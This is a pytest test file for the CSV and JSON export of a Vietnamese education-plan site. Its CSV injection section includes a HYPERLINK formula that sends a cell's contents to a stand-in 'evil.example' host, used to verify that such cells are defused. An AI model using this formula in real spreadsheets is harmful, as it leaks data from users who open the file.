"""The download tables: what press offices take into spreadsheets.

The bundled content pins the facts people quote (Thái Nguyên's 60% in 2025,
Cần Thơ's plan without number or day); a small tree built on the base
fixture covers what the bundled content does not hold yet (reported
results, a formula in a title, a negative figure).
"""

from __future__ import annotations

import csv
import io
import json
import re
import unicodedata
from pathlib import Path

import pytest

from generator.export import (FORMULA_TRIGGERS, Column, Table, absolute_url, build_tables, csv_cell, number,
                              table_csv, table_files, table_json)
from generator.model import Hub, build_hub
from generator.pipeline import check, load_hub
from tests.conftest import REPO

SITE = "https://xhht.example.vn/"
HYPERLINK = '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")'

# A third plan over the base tree: formula-like text, no number, a year-only
# date, a basis cited twice, a figure with no value, and reported results
# (one of them negative, since a count can fall).
EXTRA_PLAN = f"""\
id: kh-9-ubnd-mau-2023
type: ke-hoach
number: null
title: '{HYPERLINK.replace("'", "''")}'
issuer:
  body: ubnd-tinh-mau
  name: ỦY BAN NHÂN DÂN TỈNH MẪU
  level: tinh
locality: tinh-mau
date: "2023"
period:
  from: 2023
  to: 2030
legal_bases:
  - kind: can-cu
    text: Kế hoạch số 2/KH-UBND
    document: kh-2-ubnd-mau-2022
  - kind: can-cu
    text: Quyết định số 1/QĐ-TTg
    document: qd-1-ttg-2021
  - kind: khac
    text: Kế hoạch số 2/KH-UBND (nhắc lại)
    document: kh-2-ubnd-mau-2022
  - kind: khac
    text: Một văn bản chưa có trong kho
sections:
  - label: I.
    heading: MỤC TIÊU
    items:
      - label: "-"
        text: "- Giảm số trường chưa đạt chuẩn; 55,55% hộ gia đình đạt danh hiệu."
        targets:
          - id: mau-2023-truong-2030
            indicator: so-truong-chua-dat-chuan
            value: null
            unit: count
            verb: giảm
            year: 2030
            actuals:
              - year: 2024
                value: -3
                source: Báo cáo năm 2024
              - year: 2023
                value: 12.5
                source: "@Báo cáo năm 2023"
                url: https://example.vn/bao-cao-2023
          - id: mau-2023-gdht-2025
            indicator: gia-dinh-hoc-tap
            value: 55.55
            unit: percent
            year: 2025
            scope: các xã
            group: b
            level: mức độ 2
source:
  file: mau-9.txt
  url: https://example.vn/kh-9
"""

COUNT_INDICATOR = """\
id: so-truong-chua-dat-chuan
name: Số trường chưa đạt chuẩn
unit: count
"""

RESOURCE = """\
id: hoc-lieu-mau
name: "+Học liệu mẫu"
provider: Nhà cung cấp mẫu
url: https://example.vn/hoc-lieu
description: "-Mô tả bắt đầu bằng gạch ngang"
topics: [ky-nang-so, ngoai-ngu]
audiences: [nguoi-lon]
formats: [video]
cost: mien-phi
languages: [vi, en]
"""

EXAMPLES = {
    "vi-du-gia-dinh-mau": """\
id: vi-du-gia-dinh-mau
model: gia-dinh-hoc-tap
name: Gia đình mẫu
illustrative: true
private_persons: false
locality: tinh-mau
year: 2024
summary: Ví dụ minh họa.
story: Câu chuyện dài không có trong bảng tải về.
""",
    "don-vi-mau": """\
id: don-vi-mau
model: don-vi-hoc-tap
name: Trường Tiểu học Mẫu
illustrative: false
private_persons: false
summary: Đơn vị học tập.
""",
}

#: The published column names, table by table: people build spreadsheets on
#: them, so a change here is a breaking change for every reader.
PUBLISHED_COLUMNS = {
    "documents": ["id", "url", "number", "type", "title", "issuer_name", "issuer_body", "issuer_level", "place",
                  "locality", "date", "date_precision", "signer_name", "period_from", "period_to", "transcription",
                  "legal_basis_ids", "cited_by_ids", "target_count", "source_file", "source_url",
                  # added by issue 9: what the document leaves out, its authority line, effect, relations
                  "not_printed", "issuing_authority", "effective_date", "effective_from_signing", "issued_with_ids",
                  "issues_ids", "replaces_ids", "replaced_by_ids", "amends_ids", "amended_by_ids", "cites_ids",
                  "cited_in_ids"],
    "targets": ["id", "url", "document_id", "document_number", "indicator_id", "indicator_name", "value",
                "comparator", "unit", "verb", "year", "scope", "group", "level", "locality", "text",
                "yes_no", "part_of", "text_transcription"],
    "actuals": ["target_id", "url", "year", "value", "source", "source_url"],
    "document_sources": ["document_id", "position", "file", "url", "title", "accessed", "took", "note"],
    "duties": ["document_id", "url", "body_id", "responsibility", "role", "item_label", "item_heading"],
    "resources": ["id", "url", "name", "provider", "link", "topics", "audiences", "formats", "languages", "cost",
                  "localities", "description"],
    "examples": ["id", "url", "model", "name", "locality", "year", "illustrative", "summary"],
    # added by issue 12: was each target met, every reported result, every deadline
    "progress": ["target_id", "url", "document_id", "indicator_id", "year", "target_value", "comparator", "unit",
                 "scope", "status", "result_value", "result_document_id", "result_url"],
    "results": ["target_id", "document_id", "url", "year", "value", "scope", "text"],
    "deadlines": ["document_id", "url", "date", "date_precision", "recurring", "what", "bodies", "calendar_uid"],
}

#: Letters only Vietnamese text has (lower case, NFC): a description without
#: any is English or unaccented, neither of which readers of the page expect.
VIETNAMESE_LETTERS = set("àáảãạăằắẳẵặâầấẩẫậđèéẻẽẹêềếểễệìíỉĩịòóỏõọôồốổỗộơờớởỡợùúủũụưừứửữựỳýỷỹỵ")


# --- fixtures and helpers ---------------------------------------------------

@pytest.fixture(scope="module")
def real_hub() -> Hub:
    result = load_hub(REPO)
    assert result.ok, [p.format() for p in result.problems]
    assert result.hub is not None
    return result.hub


@pytest.fixture(scope="module")
def real_tables(real_hub: Hub) -> dict[str, Table]:
    return {t.name: t for t in build_tables(real_hub, SITE)}


@pytest.fixture
def small_hub(base_tree: Path) -> Hub:
    """The base tree plus EXTRA_PLAN, a count indicator, a resource and two examples."""
    (base_tree / "plans" / "kh-9-ubnd-mau-2023.yml").write_text(EXTRA_PLAN, encoding="utf-8")
    (base_tree / "content" / "indicators" / "so-truong-chua-dat-chuan.yml").write_text(COUNT_INDICATOR, encoding="utf-8")
    (base_tree / "content" / "resources").mkdir()
    (base_tree / "content" / "resources" / "hoc-lieu-mau.yml").write_text(RESOURCE, encoding="utf-8")
    (base_tree / "content" / "examples").mkdir()
    for ident, text in EXAMPLES.items():
        (base_tree / "content" / "examples" / f"{ident}.yml").write_text(text, encoding="utf-8")
    result = load_hub(base_tree, jobs=1)
    assert [p.format() for p in result.problems] == []
    assert result.hub is not None
    return result.hub


@pytest.fixture
def small_tables(small_hub: Hub) -> dict[str, Table]:
    return {t.name: t for t in build_tables(small_hub, SITE)}


def json_of(table: Table) -> dict:
    return json.loads(table_json(table).decode("utf-8"))


def csv_rows(table: Table) -> list[list[str]]:
    """The CSV as Python's csv module (and so any RFC 4180 reader) reads it back."""
    text = table_csv(table).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline="")))


def rows_by_id(table: Table) -> dict[str, dict]:
    return {row["id"]: row for row in json_of(table)["rows"]}


def expected_csv_cell(value) -> str:
    """What a CSV cell must read as, written independently of the module under test."""
    if value is None:
        return ""
    if isinstance(value, str):
        triggers = "=+-@\t\r\uff1d\uff0b\uff0d\uff20"
        value = re.sub(f"([,;\t\r\n])(?=[{re.escape(triggers)}])", r"\1'", value)
        return "'" + value if value[:1] in triggers and value else value
    return str(value)


def all_tables_of_both_hubs(real: dict[str, Table], small: dict[str, Table]) -> list[Table]:
    return list(real.values()) + list(small.values())


# --- the facts people quote (bundled content) ------------------------------

def test_thai_nguyen_information_literacy_2025_is_60_at_its_permanent_address(real_tables):
    rows = [r for r in json_of(real_tables["targets"])["rows"]
            if r["document_id"] == "kh-104-ubnd-thai-nguyen-2022"
            and r["indicator_id"] == "nang-luc-thong-tin" and r["year"] == 2025]
    assert len(rows) == 1
    row = rows[0]
    assert row["value"] == 60 and isinstance(row["value"], int)
    assert row["unit"] == "percent" and row["comparator"] == "="
    assert row["url"].endswith("#" + row["id"])
    assert row["url"] == f"{SITE}van-ban/kh-104-ubnd-thai-nguyen-2022/#{row['id']}"
    assert row["document_number"] == "104/KH-UBND"
    assert row["locality"] == "tinh-thai-nguyen"
    assert "năng lực thông tin" in row["text"]
    assert row["indicator_name"]


def test_can_tho_plan_has_empty_number_and_year_only_date(real_tables):
    table = real_tables["documents"]
    row = rows_by_id(table)["kh-bcd-can-tho-2024"]
    assert row["number"] is None
    assert (row["date"], row["date_precision"]) == ("2024", "year")
    csv_row = next(r for r in csv_rows(table) if r[0] == "kh-bcd-can-tho-2024")
    names = [c.name for c in table.columns]
    assert csv_row[names.index("number")] == ""
    assert csv_row[names.index("date")] == "2024"
    assert csv_row[names.index("date_precision")] == "year"


def test_full_dates_say_day_precision(real_tables):
    row = rows_by_id(real_tables["documents"])["kh-104-ubnd-thai-nguyen-2022"]
    assert (row["date"], row["date_precision"]) == ("2022-07-04", "day")
    assert row["signer_name"] == "Đặng Xuân Trường"
    assert (row["period_from"], row["period_to"]) == (2022, 2030)
    assert "qd-1373-ttg-2021" in row["legal_basis_ids"].split(";")


def test_national_decision_lists_the_local_plans_citing_it(real_tables):
    row = rows_by_id(real_tables["documents"])["qd-1373-ttg-2021"]
    cited_by = row["cited_by_ids"].split(";")
    assert {"kh-104-ubnd-thai-nguyen-2022", "kh-bcd-can-tho-2024"} <= set(cited_by)
    assert cited_by == sorted(cited_by)


def test_can_tho_55_55_prints_without_float_noise(real_tables):
    """The figure is printed as the document gives it, in both formats."""
    table = real_tables["targets"]
    assert 55.55 in [r["value"] for r in json_of(table)["rows"]]
    assert b": 55.55,\n" in table_json(table)
    assert ",55.55," in table_csv(table).decode("utf-8-sig")


def test_target_count_matches_the_targets_table(real_tables):
    per_document: dict[str, int] = {}
    for row in json_of(real_tables["targets"])["rows"]:
        per_document[row["document_id"]] = per_document.get(row["document_id"], 0) + 1
    for row in json_of(real_tables["documents"])["rows"]:
        assert row["target_count"] == per_document.get(row["id"], 0), row["id"]


# --- file format -----------------------------------------------------------

def test_each_table_gives_a_json_and_a_csv_file(real_tables):
    assert set(real_tables) == {"documents", "targets", "actuals", "document_sources", "duties", "resources", "examples",
                                "progress", "results", "deadlines"}
    for table in real_tables.values():
        assert set(table_files(table)) == {f"{table.name}.json", f"{table.name}.csv"}


def test_csv_is_utf8_with_bom_and_crlf_line_ends(real_tables):
    for table in real_tables.values():
        data = table_files(table)[f"{table.name}.csv"]
        assert data.startswith(b"\xef\xbb\xbf"), table.name
        assert data.endswith(b"\r\n")
        header = data[3:].split(b"\r\n", 1)[0].decode("ascii")
        assert header == ",".join(c.name for c in table.columns)


def test_csv_reads_back_to_the_json_values(real_tables, small_tables):
    """Same rows, same order, same values: numbers as JSON prints them, None as empty."""
    for table in all_tables_of_both_hubs(real_tables, small_tables):
        document = json_of(table)
        names = [c["name"] for c in document["columns"]]
        parsed = csv_rows(table)
        assert parsed[0] == names
        assert len(parsed) - 1 == len(document["rows"]), table.name
        for csv_row, json_row in zip(parsed[1:], document["rows"]):
            assert csv_row == [expected_csv_cell(json_row[n]) for n in names], (table.name, json_row)


def test_multi_paragraph_text_survives_the_csv(real_tables):
    """Verbatim text with line breaks stays one cell (quoted), not extra rows."""
    table = real_tables["targets"]
    assert len(csv_rows(table)) == len(table.rows) + 1


def test_json_layout(real_tables):
    for table in real_tables.values():
        data = table_json(table)
        assert data.endswith(b"}\n") and not data.endswith(b"\n\n")
        assert data.startswith(b'{\n "table": ')
        document = json.loads(data)
        assert list(document) == ["table", "title", "columns", "rows"]
        assert document["table"] == table.name and document["title"] == table.title
        assert [list(c) for c in document["columns"]] == [["name", "description"]] * len(table.columns)
        for row in document["rows"]:
            assert list(row) == [c.name for c in table.columns]
    assert "Văn bản".encode() in table_json(real_tables["documents"])  # not \u escapes


def test_rows_have_exactly_one_cell_per_column_of_plain_types(real_tables, small_tables):
    for table in all_tables_of_both_hubs(real_tables, small_tables):
        for row in table.rows:
            assert len(row) == len(table.columns), table.name
            for cell in row:
                assert cell is None or type(cell) in (str, int, float), (table.name, cell)


def test_rows_are_sorted_by_id_and_targets_by_document_then_id(real_tables):
    for name in ("documents", "resources", "examples"):
        ids = [row[0] for row in real_tables[name].rows]
        assert ids == sorted(ids) and len(set(ids)) == len(ids), name
    targets = json_of(real_tables["targets"])["rows"]
    keys = [(r["document_id"], r["id"]) for r in targets]
    assert keys == sorted(keys)


def test_building_twice_gives_identical_bytes(real_hub):
    first = [table_files(t) for t in build_tables(real_hub, SITE)]
    second = [table_files(t) for t in build_tables(load_hub(REPO).hub, SITE)]
    assert first == second


def test_bytes_do_not_depend_on_the_order_records_were_loaded(small_hub: Hub, base_tree: Path):
    """Records handed to the model in reverse order give the same tables, byte for byte."""
    records = check(base_tree, jobs=1, keep_data=True).records
    assert len(records) > 5
    shuffled = build_hub(reversed(records))
    assert ([table_files(t) for t in build_tables(shuffled, SITE)]
            == [table_files(t) for t in build_tables(small_hub, SITE)])


# --- columns ------------------------------------------------------------------

def test_column_names_are_the_published_interface(real_tables):
    assert {name: [c.name for c in t.columns] for name, t in real_tables.items()} == PUBLISHED_COLUMNS


def test_column_names_are_ascii_snake_case(real_tables):
    for table in real_tables.values():
        for column in table.columns:
            assert re.fullmatch(r"[a-z][a-z0-9]*(_[a-z0-9]+)*", column.name), column.name


def test_titles_and_column_descriptions_are_vietnamese_text(real_tables):
    for table in real_tables.values():
        for text in [table.title] + [c.description for c in table.columns]:
            assert text.strip() == text and text, (table.name, text)
            assert unicodedata.normalize("NFC", text) == text
            assert VIETNAMESE_LETTERS & set(text.lower()), (table.name, text)


@pytest.mark.parametrize("table,column,schema,pointer", [
    ("documents", "type", "document", ("properties", "type")),
    ("documents", "issuer_level", "common", ("definitions", "level")),
    ("documents", "transcription", "document", ("properties", "transcription")),
    ("targets", "comparator", "document", ("definitions", "target", "properties", "comparator")),
    ("targets", "unit", "document", ("definitions", "target", "properties", "unit")),
    ("resources", "cost", "resource", ("properties", "cost")),
    ("examples", "model", "example", ("properties", "model")),
    ("progress", "comparator", "document", ("definitions", "target", "properties", "comparator")),
    ("progress", "unit", "document", ("definitions", "target", "properties", "unit")),
    ("deadlines", "recurring", "document", ("properties", "deadlines", "items", "properties", "recurring")),
])
def test_coded_columns_explain_every_code_of_the_schema(real_tables, table, column, schema, pointer):
    """A code added to the schema must be explained on the data page too."""
    node = json.loads((REPO / "schema" / f"{schema}.schema.json").read_text(encoding="utf-8"))
    for key in pointer:
        node = node[key]
    description = next(c.description for c in real_tables[table].columns if c.name == column)
    for code in node["enum"]:
        assert re.search(rf"(^|[\s:(,]){re.escape(code)}([\s(,.]|$)", description), (column, code)


# --- CSV injection ------------------------------------------------------------

def test_formula_in_a_title_is_defused_in_csv_only(small_tables):
    table = small_tables["documents"]
    assert rows_by_id(table)["kh-9-ubnd-mau-2023"]["title"] == HYPERLINK
    names = [c.name for c in table.columns]
    csv_row = next(r for r in csv_rows(table) if r[0] == "kh-9-ubnd-mau-2023")
    assert csv_row[names.index("title")] == "'" + HYPERLINK


def test_text_starting_with_a_dash_or_at_is_defused(small_tables):
    text = [c.name for c in small_tables["targets"].columns].index("text")
    targets = {r[0]: r for r in csv_rows(small_tables["targets"])}
    assert targets["mau-2023-gdht-2025"][text].startswith("'- Giảm")
    resources = {r[0]: r for r in csv_rows(small_tables["resources"])}
    assert resources["hoc-lieu-mau"][2] == "'+Học liệu mẫu"
    assert resources["hoc-lieu-mau"][-1] == "'-Mô tả bắt đầu bằng gạch ngang"
    actuals = csv_rows(small_tables["actuals"])
    assert "'@Báo cáo năm 2023" in [row[4] for row in actuals]


def test_negative_numbers_stay_numbers(small_tables):
    actuals = json_of(small_tables["actuals"])["rows"]
    assert -3 in [r["value"] for r in actuals]
    assert "-3" in [row[3] for row in csv_rows(small_tables["actuals"])]


@pytest.mark.parametrize("text,cell", [("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@SUM(A1)", "'@SUM(A1)"),
                                       ("\t=1", "'\t'=1"), ("\r=1", "'\r'=1"), ("＝1+1", "'＝1+1")])
def test_csv_cell_prefixes_formula_text(text, cell):
    """A trigger at the start, and one after a tab or line break (where a spreadsheet may start a cell)."""
    assert text.startswith(FORMULA_TRIGGERS)
    assert csv_cell(text) == cell


@pytest.mark.parametrize("value,text", [(-5, "-5"), (-2.5, "-2.5"), (0, "0"), (55.55, "55.55"), (None, ""),
                                        ("Bình thường", "Bình thường"), ("", ""), ("a=b", "a=b")])
def test_csv_cell_leaves_numbers_and_plain_text_alone(value, text):
    assert csv_cell(value) == text


def test_a_synthetic_table_round_trips_negative_numbers_and_formulas():
    table = Table("t", "Bảng thử", (Column("a", "Cột a"), Column("b", "Cột b")),
                  (("=HYPERLINK(\"x\")", -5), ("-", -0.25), (None, 7)))
    assert csv_rows(table) == [["a", "b"], ["'=HYPERLINK(\"x\")", "-5"], ["'-", "-0.25"], ["", "7"]]
    assert json_of(table)["rows"] == [{"a": "=HYPERLINK(\"x\")", "b": -5}, {"a": "-", "b": -0.25},
                                      {"a": None, "b": 7}]


SEPARATED = ["Học liệu;=1+1", "a,=b", "x\t+y", "dòng 1\n=2", "dòng 1\r\n@2", "a;b", 'nháy "kép";-3', "ＡＢ;＝1", "ok"]


def _fields(text: str, delimiter: str) -> list[str]:
    """Every field a spreadsheet set to `delimiter` may read: quote-aware (RFC 4180) and naive splitting."""
    quoted = [field for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for field in row]
    naive = [field for line in re.split(r"\r\n|\r|\n", text) for field in line.split(delimiter)]
    return quoted + naive


def _formula_fields(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [field for delimiter in (",", ";", "\t") for field in _fields(text, delimiter)
            if field.startswith(FORMULA_TRIGGERS) and not re.fullmatch(r"-?[0-9.]+", field)]


def test_cells_holding_list_separators_are_quoted_and_defused():
    """`Học liệu;=1+1` unquoted was two cells, the second a formula, where `;` is the list separator."""
    table = Table("t", "Bảng thử", (Column("id", "Mã"), Column("text", "Chữ"), Column("n", "Số")),
                  tuple((f"r{i}", text, -5) for i, text in enumerate(SEPARATED)))
    data = table_csv(table)
    assert _formula_fields(data) == []
    line = data.decode("utf-8-sig").split("\r\n")[1]
    assert line == 'r0,"Học liệu;\'=1+1",-5'
    assert [row[1] for row in csv_rows(table)[1:]] == [csv_cell(text) for text in SEPARATED]
    with_semicolons = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert with_semicolons[1] == ["r0,\"Học liệu", "'=1+1\",-5"]


def test_no_published_csv_has_a_formula_whichever_separator_reads_it(real_tables, small_tables):
    for table in all_tables_of_both_hubs(real_tables, small_tables):
        assert _formula_fields(table_csv(table)) == [], table.name


# --- small tree: the columns the bundled content does not exercise ---------

def test_document_without_number_and_day(small_tables):
    row = rows_by_id(small_tables["documents"])["kh-9-ubnd-mau-2023"]
    assert (row["number"], row["date"], row["date_precision"]) == (None, "2023", "year")
    assert (row["source_file"], row["source_url"]) == ("mau-9.txt", "https://example.vn/kh-9")
    assert row["signer_name"] is None and row["place"] is None
    assert row["target_count"] == 2


def test_legal_bases_list_each_linked_document_once_in_document_order(small_tables):
    rows = rows_by_id(small_tables["documents"])
    assert rows["kh-9-ubnd-mau-2023"]["legal_basis_ids"] == "kh-2-ubnd-mau-2022;qd-1-ttg-2021"
    assert rows["qd-1-ttg-2021"]["legal_basis_ids"] == ""
    assert rows["qd-1-ttg-2021"]["cited_by_ids"] == "kh-2-ubnd-mau-2022;kh-9-ubnd-mau-2023"
    assert rows["qd-1-ttg-2021"]["date_precision"] == "day"


def test_targets_table_row(small_tables):
    row = rows_by_id(small_tables["targets"])["mau-2023-gdht-2025"]
    assert row == {
        "id": "mau-2023-gdht-2025",
        "url": SITE + "van-ban/kh-9-ubnd-mau-2023/#mau-2023-gdht-2025",
        "document_id": "kh-9-ubnd-mau-2023",
        "document_number": None,
        "indicator_id": "gia-dinh-hoc-tap",
        "indicator_name": "Tỷ lệ hộ gia đình được công nhận danh hiệu Gia đình học tập",
        "value": 55.55,
        "comparator": "=",
        "unit": "percent",
        "verb": None,
        "year": 2025,
        "scope": "các xã",
        "group": "b",
        "level": "mức độ 2",
        "locality": "tinh-mau",
        "text": "- Giảm số trường chưa đạt chuẩn; 55,55% hộ gia đình đạt danh hiệu.",
        "yes_no": None,
        "part_of": None,
        "text_transcription": "full",
    }
    assert rows_by_id(small_tables["targets"])["mau-2023-truong-2030"]["value"] is None


def test_targets_are_ordered_by_document_then_id(small_tables):
    assert [r[0] for r in small_tables["targets"].rows] == [
        "mau-2022-gdht-2025", "mau-2023-gdht-2025", "mau-2023-truong-2030"]


def test_actuals_one_row_per_result_oldest_first(small_tables):
    assert json_of(small_tables["actuals"])["rows"] == [
        {"target_id": "mau-2023-truong-2030", "url": SITE + "van-ban/kh-9-ubnd-mau-2023/#mau-2023-truong-2030",
         "year": 2023, "value": 12.5, "source": "@Báo cáo năm 2023", "source_url": "https://example.vn/bao-cao-2023"},
        {"target_id": "mau-2023-truong-2030", "url": SITE + "van-ban/kh-9-ubnd-mau-2023/#mau-2023-truong-2030",
         "year": 2024, "value": -3, "source": "Báo cáo năm 2024", "source_url": None},
    ]


def test_resource_lists_are_joined_codes(small_tables):
    row = rows_by_id(small_tables["resources"])["hoc-lieu-mau"]
    assert row["url"] == SITE + "hoc-lieu/hoc-lieu-mau/"
    assert row["link"] == "https://example.vn/hoc-lieu"
    assert (row["topics"], row["languages"], row["localities"]) == ("ky-nang-so;ngoai-ngu", "vi;en", "")


def test_examples_carry_only_the_public_summary(small_tables):
    rows = rows_by_id(small_tables["examples"])
    assert rows["vi-du-gia-dinh-mau"]["illustrative"] == "true"
    assert rows["don-vi-mau"]["illustrative"] == "false"
    assert (rows["don-vi-mau"]["locality"], rows["don-vi-mau"]["year"]) == (None, None)
    assert rows["vi-du-gia-dinh-mau"]["url"] == SITE + "guong-dien-hinh/vi-du-gia-dinh-mau/"
    assert "Câu chuyện" not in table_json(small_tables["examples"]).decode()


def test_empty_table_still_has_its_header(small_hub: Hub):
    small_hub.examples.clear()
    table = next(t for t in build_tables(small_hub) if t.name == "examples")
    assert table.rows == ()
    assert csv_rows(table) == [PUBLISHED_COLUMNS["examples"]]
    assert json_of(table)["rows"] == []


# --- addresses and numbers ----------------------------------------------------

@pytest.mark.parametrize("site_url,expected", [
    ("", "van-ban/x/"),
    ("https://a.vn/", "https://a.vn/van-ban/x/"),
    ("https://a.vn/xhht", "https://a.vn/xhht/van-ban/x/"),
])
def test_absolute_url(site_url, expected):
    assert absolute_url(site_url, "van-ban/x/") == expected


def test_without_site_url_addresses_are_relative_to_the_site_root(small_hub: Hub):
    targets = next(t for t in build_tables(small_hub) if t.name == "targets")
    assert targets.rows[0][1] == "van-ban/kh-2-ubnd-mau-2022/#mau-2022-gdht-2025"


@pytest.mark.parametrize("value,expected", [(60, 60), (60.0, 60), (55.55, 55.55), (-3, -3), (None, None)])
def test_number_keeps_figures_as_written(value, expected):
    result = number(value)
    assert result == expected and type(result) is type(expected)


@pytest.mark.parametrize("value", [True, "60"])
def test_number_refuses_what_is_not_a_figure(value):
    with pytest.raises(TypeError):
        number(value)


# --- files written in parts ------------------------------------------------------

def _whole_json(table: Table) -> bytes:
    """The JSON of a table as one `json.dumps` of the whole document writes it (what `json_parts` must equal)."""
    document = {"table": table.name, "title": table.title,
                "columns": [{"name": c.name, "description": c.description} for c in table.columns],
                "rows": [dict(zip((c.name for c in table.columns), row)) for row in table.rows]}
    return (json.dumps(document, ensure_ascii=False, indent=1, allow_nan=False) + "\n").encode("utf-8")


AWKWARD = Table("awkward", 'Tiêu đề "khó"', (Column("id", "Mã"), Column('giá "trị"', "Giá trị; có dấu")),
                tuple((f"hàng-{n}", value) for n, value in
                      enumerate([None, 0, -5, 55.55, 60.0 + 1e-9, 1e300, 10**20, "", "dòng\nhai\u2028ba", "=1+1;@x",
                                 '"ngoặc"', "\\", "tab\tvà\r"] * 3)))


@pytest.mark.parametrize("part_rows", [1, 2, 7, 1000])
def test_parts_of_a_file_are_the_whole_file(monkeypatch, real_tables, part_rows: int):
    """A build writes each table part by part (json_parts, csv_parts); the bytes are those of the whole document,
    wherever the parts end, and the CSV's byte order mark comes once, first."""
    import generator.export as export

    monkeypatch.setattr(export, "PART_ROWS", part_rows)
    empty = Table("empty", "Trống", (Column("id", "Mã"),), ())
    for table in [AWKWARD, empty, real_tables["targets"], real_tables["documents"]]:
        parts = list(export.json_parts(table))
        assert b"".join(parts) == _whole_json(table) == table_json(table), table.name
        if len(table.rows) > 2 * part_rows:
            assert len(parts) > 1, table.name  # written in parts indeed
        csv_parts = list(export.csv_parts(table))
        assert b"".join(csv_parts) == table_csv(table)
        assert csv_parts[0].startswith(b"\xef\xbb\xbf") and all(b"\xef\xbb\xbf" not in p for p in csv_parts[1:])
        assert csv_rows(table)[1:] == [[csv_cell(v) for v in row] for row in table.rows]


def test_a_figure_json_cannot_hold_is_refused_in_parts_too():
    import generator.export as export

    table = Table("nan", "NaN", (Column("v", "Giá trị"),), ((float("nan"),),))
    with pytest.raises(ValueError):
        b"".join(export.json_parts(table))


def test_a_build_writes_each_table_once_as_its_files_and_keeps_only_its_summary():
    """`write_data` (what a build writes, table by table) gives every table's files, each path once, and the data
    page's summary of each table: its row count and its last change."""
    from generator.pipeline import CONFIG, attach_history, data_files, read_site_info, write_data
    from generator.render.followthrough import table_changes

    result = load_hub(REPO)
    real_hub = result.hub
    attach_history(real_hub, REPO, result.facts)
    site = read_site_info(CONFIG, SITE, REPO)
    written: dict[str, bytes] = {}

    def put(path: str, parts) -> None:
        assert path not in written
        written[path] = b"".join(parts)

    summaries = write_data(real_hub, site, put)
    tables = build_tables(real_hub, SITE)
    assert [s.name for s in summaries] == [t.name for t in tables]
    changes = table_changes(real_hub, tables)
    assert changes  # the bundled content has a history: the check below compares dates, not only absences
    for summary, table in zip(summaries, tables):
        assert (summary.title, summary.columns, summary.count) == (table.title, table.columns, table.count)
        assert summary.changed == changes.get(table.name)
        for name, content in table_files(table).items():
            assert written[f"data/{name}"] == content
    assert {"lich/tat-ca.ics", "tin/van-ban.xml", "schema/document.schema.json"} <= set(written)
    assert data_files(real_hub, site) == (summaries, written)
